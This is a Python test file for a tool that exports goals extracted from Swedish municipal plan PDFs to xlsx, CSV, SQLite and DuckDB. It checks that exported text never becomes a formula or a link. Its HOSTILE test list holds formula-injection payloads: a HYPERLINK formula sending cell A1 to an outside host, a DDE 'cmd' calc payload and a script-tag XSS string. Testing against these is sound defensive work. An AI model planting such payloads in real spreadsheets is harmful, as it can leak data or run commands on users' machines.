"""Exports: types are kept, nothing a document says becomes a formula, links lead to files that are there, all or nothing."""

from __future__ import annotations

import json
import sqlite3
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from cli_outputs import written
from frictionless import Package, system
from openpyxl.utils.escape import unescape

from vpextract.cli import main
from vpextract.exporting import workbook
from vpextract.exporting.chosen import chosen_datasets
from vpextract.exporting.files import replacing
from vpextract.exporting.pages import page_links
from vpextract.model import Extraction, Goal, Identity, Place
from vpextract.store.reading import open_output
from vpextract.store.schema import DATASETS

NOTHING = (None,) * 7
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1;"klicka")',
    "+46 8 508",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "{=SUM(A1)}",
    "<script>alert(1)</script> & \"citat\" 'enkla'",
    "rad ett\nrad två",
    "http://evil.example/x",
    "internal:'Blad'!A1",
    "mailto:a@b.c",
    "_x0041_ är inte A",
    "007",
    "1e5",
    "2022-01-01",
    "\U0001f600" * 20_000,
    "å" * 40_000,
    "'redan citerad",
)


@pytest.fixture
def out(tmp_path: Path) -> Path:
    goals = tuple(
        Goal(f"a-2022-vp-1:g{n}", n, "namndmal", None, text, *NOTHING, text, Place(page=n + 1))
        for n, text in enumerate(HOSTILE)
    )
    identity = Identity("verksamhetsplan", 2022, None, "Norrviks stadsdelsnämnd", "norrvik", title="=1+1")
    one = Extraction("a-2022-vp-1", "plan ett.pdf", "0" * 64, "pymupdf", "ok", identity=identity, goals=goals)
    return written(tmp_path / "out", one)


def run(*arguments: object) -> int:
    with pytest.raises(SystemExit) as end:
        main([str(one) for one in arguments])
    assert isinstance(end.value.code, int)
    return end.value.code


def columns_of(sheet: Any) -> dict[str, list[Any]]:
    head, *rows = sheet.iter_rows()
    return {cell.value: [row[n] for row in rows] for n, cell in enumerate(head)}


def test_no_text_is_a_formula_a_link_or_a_number_in_a_workbook(out: Path, tmp_path: Path) -> None:
    assert run("export", out, "--xlsx", tmp_path / "a.xlsx") == 0
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["Översikt", *(one.label_sv for one in DATASETS.values()), "Kolumner"]
    for sheet in book:
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    cells = columns_of(book["Mål"])["Mål"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    assert [unescape(cell.value) for cell in cells[:14]] == list(HOSTILE[:14])
    assert len(cells[15].value) == workbook.MOST_LETTERS
    assert cells[15].value.endswith("å…")
    assert len(cells[14].value.encode("utf-16-le")) // 2 <= workbook.MOST_LETTERS
    quoted = [bool(cell.quotePrefix) for cell in cells]
    assert quoted[:4] == [True, False, True, True]  # "+46 8 508" is a number, see formulas
    assert not quoted[11]
    notes = [row[0].value for row in book["Översikt"].iter_rows() if row[0].value]
    assert any(note.startswith("Mål: 4 texter är längre") for note in notes)


def test_a_workbook_can_be_used_as_it_is(sample_output: Path, tmp_path: Path) -> None:
    samples = Path(__file__).resolve().parents[3] / "samples" / "documents"
    assert run("export", sample_output, "--xlsx", tmp_path / "a.xlsx", "--documents", samples) == 0
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    output = open_output(sample_output)
    for name, dataset in DATASETS.items():
        sheet = book[dataset.label_sv]
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref
        assert [cell.value for cell in next(sheet.iter_rows())] == [c.label_sv for c in dataset.columns]
        if "preferred" in [c.name for c in dataset.columns]:
            assert sheet.max_row - 1 == len(getattr(output.preferred, name)), name
    values = columns_of(book["Indikatorvärden"])
    at = next(
        n for n, cell in enumerate(values["Enhet (en stavning)"]) if cell.value == "%" and values["Värde"][n].value
    )
    frame = output.preferred.indicator_values
    assert values["Värde"][at].value == pytest.approx(frame["value"][at] / 100)
    assert "%" in values["Värde"][at].number_format
    assert isinstance(columns_of(book["Aktiviteter"])["Startdatum"][0].value, datetime)
    assert {cell.value for cell in columns_of(book["Dokument"])["Gällande"]} == {True}
    gaps = columns_of(book["Uppföljning indikatorer"])["Utfall − årsmål"]
    followup = output.followup["outcome_minus_target"]
    told = [(cell.value, cell.number_format) for cell in gaps]
    assert told[0][0] == pytest.approx(followup[0])
    assert "%-enh." in told[0][1]
    page = columns_of(book["Mål"])["Sida"][0]
    assert page.value == output.preferred.goals["page"][0]
    file = page.hyperlink.target.split("///")[1]
    assert Path(f"/{file}").is_file()
    assert page.hyperlink.location == f"page={page.value}"
    assert book["Översikt"]["A7"].hyperlink.location == "'Dokument'!A1"
    assert book["Översikt"]["D7"].value == "En rad per inläst fil."
    meanings = columns_of(book["Kolumner"])
    assert "Indikatorns namn." in [cell.value for cell in meanings["Betydelse"]]
    said = [cell.value for cell in columns_of(book["Oklarheter"])["Meddelande"]]
    assert [text for text in said if text.startswith("Det är inte säkert att dessa celler står i rätt rad")]
    assert not [text for text in said if text in set(output.issues["message"])]


def test_rows_beyond_a_sheet_go_on_on_another_and_that_is_told(
    out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 8)
    assert run("export", out, "--xlsx", tmp_path / "a.xlsx", "--dataset", "goals") == 0
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["Översikt", "Mål", "Mål (2)", "Mål (3)", "Kolumner"]
    assert sum(book[name].max_row - 1 for name in book.sheetnames[1:4]) == len(HOSTILE)
    assert "they go on in Mål (2), Mål (3)" in capsys.readouterr().out
    assert any("fortsätter på" in str(row[0].value) for row in book["Översikt"].iter_rows())


def test_links_lead_to_files_inside_the_folder_only(out: Path, tmp_path: Path) -> None:
    output = open_output(out)
    assert page_links(output, tmp_path)("a-2022-vp-1", 3) is None
    (tmp_path / "plan ett.pdf").write_bytes(b"%PDF")
    assert page_links(output, tmp_path)("a-2022-vp-1", 3) == f"{(tmp_path / 'plan ett.pdf').as_uri()}#page=3"
    assert page_links(output, tmp_path)("b", 3) is None
    inside = tmp_path / "inside"
    inside.mkdir()
    (inside / "plan ett.pdf").symlink_to(tmp_path / "plan ett.pdf")
    assert page_links(output, inside)("a-2022-vp-1", 3) is None


@pytest.mark.parametrize("excel", [False, True])
def test_the_data_package_is_valid(sample_output: Path, tmp_path: Path, excel: bool) -> None:
    assert run("export", sample_output, "--csv", tmp_path / "csv", *(["--excel"] if excel else [])) == 0
    with system.use_context(trusted=True):
        package = Package(str(tmp_path / "csv" / "datapackage.json"))
        report = package.validate()
    assert report.valid, report.flatten(["name", "type", "note"])[:5]
    told = json.loads((tmp_path / "csv" / "datapackage.json").read_text("utf8"))
    assert [one["name"] for one in told["resources"]] == list(DATASETS)
    assert {len(one["sha256"]) for one in told["sources"]} == {64}
    goals = next(one for one in told["resources"] if one["name"] == "goals")
    assert goals["title"] == "Mål"
    assert goals["schema"]["primaryKey"] == ["goal_id"]
    assert {"fields": "parent_goal_id", "reference": {"resource": "", "fields": "goal_id"}} in goals["schema"][
        "foreignKeys"
    ]


def test_a_changed_file_makes_the_package_invalid(out: Path, tmp_path: Path) -> None:
    run("export", out, "--csv", tmp_path / "csv", "--dataset", "goals")
    file = tmp_path / "csv" / "goals.csv"
    file.write_text(file.read_text("utf8").replace("norrvik", "ostvik"), "utf8")
    with system.use_context(trusted=True):
        assert not Package(str(tmp_path / "csv" / "datapackage.json")).validate().valid


def test_csv_guards_what_could_be_a_formula(out: Path, tmp_path: Path) -> None:
    run("export", out, "--csv", tmp_path / "csv", "--dataset", "goals,documents", "--excel")
    text = (tmp_path / "csv" / "goals.csv").read_text("utf-8-sig")
    for sign in ("=", "@", "-2+3"):
        assert f";{sign}" not in text
        assert f';"{sign}' not in text


def test_sqlite_is_sound_and_says_what_its_columns_mean(sample_output: Path, tmp_path: Path) -> None:
    assert run("export", sample_output, "--sqlite", tmp_path / "a.db") == 0
    with sqlite3.connect(tmp_path / "a.db") as database:
        assert database.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        assert database.execute("PRAGMA foreign_key_check").fetchall() == []
        names = {name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert names == {*DATASETS, "columns"}
        output = open_output(sample_output)
        for name in ("goals", "indicators", "followup"):
            (count,) = database.execute(f"SELECT count(*) FROM {name}").fetchone()
            assert count == len(getattr(output.preferred, name))
        label = "SELECT label_sv FROM columns WHERE dataset = 'goals' AND name = 'text'"
        assert database.execute(label).fetchone() == ("Mål",)
        box = database.execute("SELECT bbox FROM goals WHERE bbox IS NOT NULL").fetchone()[0]
        assert len(json.loads(box)) == 4
        assert database.execute("SELECT min(start_date) FROM activities").fetchone()[0].startswith("20")
        kinds = {row[2]: row[5] for row in database.execute("PRAGMA table_info(goals)")}
        assert set(kinds) == {"TEXT", "INTEGER"}
        missed = "SELECT count(*) FROM followup WHERE reached = 0 AND year = 2022"
        assert database.execute(missed).fetchone()[0] > 0


def test_duckdb_has_types_and_comments(sample_output: Path, tmp_path: Path) -> None:
    assert run("export", sample_output, "--duckdb", tmp_path / "a.duckdb", "--all-editions") == 0
    with duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True) as database:
        found = database.sql(
            "SELECT data_type, comment FROM duckdb_columns() WHERE table_name = 'goals' AND column_name = 'bbox'"
        )
        ((kind, comment),) = found.fetchall()
        assert kind == "FLOAT[]"
        assert comment.startswith("Ruta. ")
        rows = database.sql("SELECT count(*) FROM goals").fetchall()
        assert rows == [(len(open_output(sample_output).goals),)]


def test_what_is_there_stays_where_the_export_fails(out: Path, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    file.write_text("former")
    with pytest.raises(ZeroDivisionError), replacing(file) as draft:
        draft.write_text("half")
        raise ZeroDivisionError
    assert file.read_text() == "former"
    assert [one.name for one in tmp_path.iterdir() if one.name.startswith(".")] == []
    assert run("export", out) == 2
    assert run("export", out, "--dataset", "gaols", "--xlsx", file) == 2
    assert run("export", out, "--xlsx", tmp_path) == 2
    assert file.read_text() == "former"


def test_issues_of_other_editions_are_left_out(sample_output: Path) -> None:
    output = open_output(sample_output)
    preferred = set(output.preferred.documents["document_id"])
    (issues,) = chosen_datasets(output, ["issues"])
    found = {one for table in issues.tables() for one in table.column("document_id").to_pylist()}
    assert found
    assert found <= preferred
    (every,) = chosen_datasets(output, ["issues"], all_editions=True)
    assert sum(t.num_rows for t in every.tables()) == len(output.issues)


def test_an_output_without_documents_is_exported(tmp_path: Path) -> None:
    nothing = replace(Extraction("u-u-u-0", "x.pdf", "0", "none", "failed", "Fetch it again."), sha256="")
    out = written(tmp_path / "out", nothing)
    files = ("--xlsx", tmp_path / "a.xlsx", "--sqlite", tmp_path / "a.db", "--duckdb", tmp_path / "a.duckdb")
    assert run("export", out, *files, "--csv", tmp_path / "csv") == 0
